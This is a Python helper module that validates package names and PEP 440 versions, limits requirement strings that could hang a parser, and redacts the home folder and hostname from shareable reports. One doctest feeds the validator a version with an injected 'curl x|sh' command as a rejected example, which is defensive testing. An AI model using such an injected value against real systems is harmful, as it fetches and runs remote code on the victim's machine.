"""What names are: of packages and versions, of this machine and its user; apart from what reads an environment.

A report needs it, and nothing of what looks for packages.
"""

from __future__ import annotations

import os
import re

# As the packaging specifications have them (names; PEP 440). A node has no `packaging` to ask.
_NAME = re.compile(r"[a-z0-9](?:[a-z0-9._-]{0,253}[a-z0-9])?", re.IGNORECASE | re.ASCII)
_VERSION = re.compile(
    r"v?(?:\d{1,9}!)?\d{1,19}(?:\.\d{1,19}){0,19}(?:[-_.]?(?:alpha|beta|preview|pre|rc|a|b|c)[-_.]?\d{0,19})?"
    r"(?:-\d{1,19}|[-_.]?(?:post|rev|r)[-_.]?\d{0,19})?(?:[-_.]?dev[-_.]?\d{0,19})?"
    r"(?:\+[a-z0-9]{1,64}(?:[-_.][a-z0-9]{1,64}){0,19})?",
    re.IGNORECASE | re.ASCII,
)

_LONGEST = 4096
_ENDLESS = re.compile(r"\d{400}")


class NoEnvironmentError(ValueError):
    """Raised when there is no Python environment where one was said to be; the message is one line."""


def working_folder() -> str:
    """The folder that we run in; if somebody deleted it, a place in which nothing is."""
    try:
        return os.getcwd()  # noqa: PTH109 - as text
    except OSError:
        return os.devnull


def names_a_package(name: str, version: str) -> bool:
    """Whether both are what the packaging specifications allow.

    >>> names_a_package("trl", "1.16.0.dev1+g0a1"), names_a_package("trl", "1.16.0';curl x|sh;'")
    (True, False)
    """
    return bool(_NAME.fullmatch(name) and _VERSION.fullmatch(version))


def may_be_asked(requirement: str) -> bool:
    """Whether a declared requirement can be read: one of brackets in brackets, or of endless numbers, ends its reader.

    >>> may_be_asked("torch>=2.8.0; python_version < '3.13'"), may_be_asked("torch; " + "(" * 3000)
    (True, False)
    """
    return len(requirement) <= _LONGEST and requirement.count("(") <= 50 and not _ENDLESS.search(requirement)


def redact(text: str) -> str:
    """Takes the user's home folder and the machine's name out of a text that may be shared."""
    home = os.path.expanduser("~")  # noqa: PTH111 - as a string, to be replaced in strings
    if len(home) > 1:
        text = text.replace(home, "~")
    host = os.uname().nodename
    return text.replace(host, "<host>") if len(host) > 3 else text
